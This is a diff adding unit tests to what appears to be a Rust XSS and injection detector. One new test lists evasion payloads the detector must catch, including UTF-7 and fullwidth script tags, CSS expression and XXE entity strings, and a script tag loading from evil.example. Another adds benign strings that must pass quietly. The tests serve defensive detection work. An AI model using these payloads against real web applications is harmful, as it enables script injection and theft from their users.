@@ -69,6 +69,29 @@ fn schemes_and_breakouts() {
 }
 
 #[test]
+fn evasions() {
+    for v in [
+        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+        "<b <script>alert(1)</script>",
+        "<img src=x\x0bonerror=alert(1)>",
+        "\"><script+src=//evil.example/x.js></script>",
+        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
+        "<meta charset=\"UTF-7\">",
+        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://evil.example/\">]>",
+        "<x foo='?><script>alert(1)</script>'>",
+        "A=alert;A(1)",
+        "(alert)(1)",
+        "[1].find(alert)",
+        "'};a=eval;b=alert;a(b(1));//",
+        "</a style=\"x:expr/**/ession(alert(1))\">",
+        "<label datasrc=\"#x\" datafld=\"p\" dataformatas=\"html\"></label>",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+}
+
+#[test]
 fn benign_markup_and_text_stay_quiet() {
     for v in [
         "<p>Hello <b>world</b></p>",
@@ -100,6 +123,18 @@ fn benign_markup_and_text_stay_quiet() {
         "Turn it on = off",
         "<3 you",
         "I <3 rock & roll",
+        "Status (alert) level",
+        "type=alert",
+        "please confirm (yes/no)",
+        "<p class=\"note\">Press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>",
+        "<a href=\"/search?q=a+b\" title=\"x\">s</a>",
+        "<span style=\"font-family: 'Open Sans', sans-serif; color: #333\">t</span>",
+        "<video src=\"a.mp4\" controls width=\"320\"></video>",
+        "<input type=\"checkbox\" checked> done",
+        "if (a < b) { return; }",
+        "x = a<b ? a : b;",
+        "Temperature: 20 < t < 30",
+        "https://example.com/a?redirect=%2Fhome&q=%3Cb%3E",
     ] {
         assert!(!hit(v), "false positive {v:?}: {:?}", detect(v, Context::Param));
     }
